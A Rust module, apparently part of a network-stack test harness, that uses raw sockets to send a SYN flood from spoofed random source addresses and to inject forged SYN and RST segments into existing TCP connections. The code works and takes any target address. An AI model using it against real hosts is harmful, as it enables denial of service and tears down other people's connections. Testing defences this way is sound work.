//! Forged segments: a flood of SYNs from sources that do not exist, and SYN and RST of connections that do.
//!
//! They are sent by raw sockets with headers of our own (raw(7), `IPPROTO_RAW`), so that a host routes them as its own.

use std::{
    io::IoSlice,
    net::{IpAddr, SocketAddr},
    os::fd::OwnedFd,
    thread,
    time::{Duration, Instant},
};

use rustix::{
    io::Errno,
    net::{
        AddressFamily, MMsgHdr, SendAncillaryBuffer, SendFlags, SocketFlags, SocketType, connect, ipproto, sendmmsg,
        socket_with,
    },
};

use crate::frames::{self, Packet};

/// Segments of one system call.
const BATCH: usize = 64;
const ETHERNET_LEN: usize = 14;
/// 11.0.0.0/8, in which no machine of a site is.
const V4_NET: u32 = 11 << 24;

/// How many segments were sent, and how long that took.
#[derive(Clone, Copy, Debug)]
pub struct Flood {
    pub sent: u64,
    pub took: Duration,
}

/// Sends SYNs of random sources, ports and sequence numbers from the calling thread's network namespace.
pub fn flood(to: SocketAddr, count: u64, random: &mut fastrand::Rng) -> Flood {
    let (start, socket) = (Instant::now(), raw(to.ip()));
    let begun = Syn::new(to);
    let mut batch: Vec<Syn> = (0..BATCH).map(|_| begun.clone()).collect();
    let mut sent = 0;
    while sent < count {
        for syn in &mut batch {
            syn.roll(random);
        }
        let take = BATCH.min((count - sent) as usize);
        send(&socket, batch[..take].iter().map(|syn| syn.bytes.as_slice()));
        sent += take as u64;
    }
    Flood { sent, took: start.elapsed() }
}

/// Sends a SYN and a RST for each connection, with sequence numbers that a blind sender would guess.
pub fn forge(clients: &[SocketAddr], to: SocketAddr, random: &mut fastrand::Rng) {
    let socket = raw(to.ip());
    for client in clients {
        let forged = || frames::tcp(&client.to_string(), &to.to_string());
        let forged = [forged().syn().sequence(random.u32(..)), forged().rst().sequence(random.u32(..))];
        let bytes = forged.map(|packet| ip_bytes(&packet));
        send(&socket, bytes.iter().map(Vec::as_slice));
    }
}

/// A SYN whose source and sequence number change, and its checksum with them.
#[derive(Clone)]
struct Syn {
    bytes: Vec<u8>,
    /// Where the last four bytes of the source are.
    source_at: usize,
    tcp_at: usize,
    is_v4: bool,
    /// The checksum's sum over all that does not change.
    sum: u32,
}

impl Syn {
    fn new(to: SocketAddr) -> Self {
        let is_v4 = to.is_ipv4();
        let (source, source_at, tcp_at) = if is_v4 { ("0.0.0.0:0", 12, 20) } else { ("[2001:2::]:0", 20, 40) };
        let bytes = ip_bytes(&frames::tcp(source, &to.to_string()).syn().sequence(0));
        let sum = u32::from(!u16::from_be_bytes([bytes[tcp_at + 16], bytes[tcp_at + 17]]));
        Self { bytes, source_at, tcp_at, is_v4, sum }
    }

    fn roll(&mut self, random: &mut fastrand::Rng) {
        let source = if self.is_v4 { V4_NET | random.u32(..) >> 8 } else { random.u32(..) };
        let (port, sequence) = (random.u16(1024..), random.u32(..));
        let mut sum = self.sum + u32::from(port);
        sum += [source, sequence].iter().map(|word| (word >> 16) + (word & 0xffff)).sum::<u32>();
        while sum > 0xffff {
            sum = (sum & 0xffff) + (sum >> 16);
        }
        let tcp = self.tcp_at;
        self.bytes[self.source_at..self.source_at + 4].copy_from_slice(&source.to_be_bytes());
        self.bytes[tcp..tcp + 2].copy_from_slice(&port.to_be_bytes());
        self.bytes[tcp + 4..tcp + 8].copy_from_slice(&sequence.to_be_bytes());
        self.bytes[tcp + 16..tcp + 18].copy_from_slice(&(!(sum as u16)).to_be_bytes());
    }
}

/// A socket whose packets have headers of the caller's.
fn raw(to: IpAddr) -> OwnedFd {
    let family = if to.is_ipv4() { AddressFamily::INET } else { AddressFamily::INET6 };
    let open = || {
        let socket = socket_with(family, SocketType::RAW, SocketFlags::CLOEXEC, Some(ipproto::RAW))?;
        connect(&socket, &SocketAddr::new(to, 0))?;
        Ok::<_, Errno>(socket)
    };
    open().unwrap_or_else(|error| panic!("a raw socket to {to}: {error}"))
}

/// Sends at most a batch; waits where the interface's queue is full.
fn send<'a>(socket: &OwnedFd, packets: impl Iterator<Item = &'a [u8]>) {
    let slices: Vec<_> = packets.map(|packet| [IoSlice::new(packet)]).collect();
    let mut controls: Vec<_> = slices.iter().map(|_| SendAncillaryBuffer::default()).collect();
    let pairs = slices.iter().zip(&mut controls);
    let mut messages: Vec<_> = pairs.map(|(slice, control)| MMsgHdr::new(slice, control)).collect();
    let mut sent = 0;
    while sent < messages.len() {
        match sendmmsg(socket, &mut messages[sent..], SendFlags::empty()) {
            Ok(count) => sent += count,
            Err(Errno::NOBUFS | Errno::AGAIN | Errno::INTR) => thread::yield_now(),
            Err(error) => panic!("sending forged segments: {error}"),
        }
    }
}

fn ip_bytes(packet: &Packet) -> Vec<u8> {
    packet.bytes()[ETHERNET_LEN..].to_vec()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_rolled_syn_is_as_if_it_were_built() {
        for to in ["10.77.0.100:7", "[fd77::100]:7"] {
            let to: SocketAddr = to.parse().expect("an address");
            let mut syn = Syn::new(to);
            syn.roll(&mut fastrand::Rng::with_seed(1));
            let tcp = &syn.bytes[syn.tcp_at..];
            let port = u16::from_be_bytes([tcp[0], tcp[1]]);
            let source: IpAddr = if to.is_ipv4() {
                <[u8; 4]>::try_from(&syn.bytes[12..16]).expect("four bytes").into()
            } else {
                <[u8; 16]>::try_from(&syn.bytes[8..24]).expect("sixteen bytes").into()
            };
            let source = SocketAddr::new(source, port).to_string();
            let sequence = u32::from_be_bytes([tcp[4], tcp[5], tcp[6], tcp[7]]);
            let built = ip_bytes(&frames::tcp(&source, &to.to_string()).syn().sequence(sequence));
            assert_eq!(tcp, &built[syn.tcp_at..], "{to}");
        }
    }
}
